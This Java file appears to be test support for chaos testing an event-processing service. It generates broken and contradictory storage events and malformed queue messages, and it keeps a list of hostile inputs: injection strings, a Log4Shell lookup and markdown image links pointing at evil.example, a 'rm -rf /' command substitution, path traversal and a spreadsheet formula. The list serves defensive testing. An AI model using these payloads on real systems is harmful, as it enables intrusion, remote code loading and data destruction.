package io.snapwarden.chaos;

import com.google.gson.JsonArray;
import com.google.gson.JsonObject;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import java.util.function.Consumer;

/** Events and messages that are broken, of the wrong types, or written by an enemy. */
final class Texts {

  /** What can be done to a sound event so that it can no longer be read. */
  private static final List<Consumer<JsonObject>> DAMAGE =
      List.of(
          event -> event.addProperty("data", 17),
          event -> event.add("data", new JsonArray()),
          event -> event.addProperty("data", "{\"operationName\": \"Microsoft.Cont"),
          event -> event.addProperty("eventTime", "yesterday"),
          event -> event.addProperty("eventTime", 5),
          event -> event.remove("eventType"),
          event -> event.add("eventType", new JsonArray()),
          event -> event.remove("id"),
          event -> event.addProperty("type", "Microsoft.Storage.BlobCreated"),
          event -> data(event).addProperty("resourceUri", 7),
          event -> data(event).addProperty("resourceUri", uri(event) + "/.."),
          event -> data(event).addProperty("resourceUri", uri(event) + "/a/b"),
          event -> data(event).remove("operationName"),
          event -> event.addProperty("padding", "x".repeat(20_000) + event.remove("eventTime")));

  /** What can be done to one so that it is still a write, but one that contradicts itself. */
  private static final List<Consumer<JsonObject>> CONTRADICTION =
      List.of(
          event -> event.addProperty("subject", event.get("subject").getAsString() + "-another"),
          event -> event.addProperty("topic", "/subscriptions/" + UUID.randomUUID()),
          event -> data(event).addProperty("subscriptionId", UUID.randomUUID().toString()),
          event -> data(event).addProperty("tenantId", UUID.randomUUID().toString()));

  private static final List<String> QUEUE =
      List.of(
          "{\"version\":1,\"kind\":\"detected\",\"write\":{\"event\":\"%s",
          "{\"version\":99,\"kind\":\"detected\",\"event\":\"%s\"}",
          "{\"version\":1,\"kind\":\"advance\",\"incident\":\"../../%s\"}",
          "{\"version\":1,\"kind\":[\"detected\"],\"event\":\"%s\"}",
          "[1, 2, \"%s\"]",
          "not JSON at all: %s");

  /** What an enemy would like a log, a journal, a table key, a ticket or a shell to take. */
  private static final List<String> HOSTILE =
      List.of(
          "' or PartitionKey ne '",
          "<script>alert(1)</script>",
          "](https://evil.example) ![x](https://evil.example/p.png)",
          "first line\r\n{\"verdict\":\"allowed\"}",
          "\u202Etxt.exe\u2066 \u0000\u0007\u001b[2J",
          "${jndi:ldap://evil.example/a} $(rm -rf /) `id`",
          "../../snapwarden/policy.json",
          "=HYPERLINK(\"https://evil.example\")",
          "x".repeat(300));

  private Texts() {}

  private static JsonObject data(JsonObject event) {
    return event.getAsJsonObject("data");
  }

  private static String uri(JsonObject event) {
    return data(event).get("resourceUri").getAsString();
  }

  /** Damages a sound event beyond reading. */
  static String damaged(JsonObject sound, int number) {
    JsonObject event = sound.deepCopy();
    DAMAGE.get(number % DAMAGE.size()).accept(event);
    event.addProperty("mark", number);
    return event.toString();
  }

  static JsonObject contradictory(JsonObject sound, int number) {
    JsonObject event = sound.deepCopy();
    CONTRADICTION.get(number % CONTRADICTION.size()).accept(event);
    return event;
  }

  static String inQueue(int number) {
    return QUEUE.get(number % QUEUE.size()).formatted("message " + number);
  }

  static String hostile(Random random) {
    return HOSTILE.get(random.nextInt(HOSTILE.size()));
  }
}
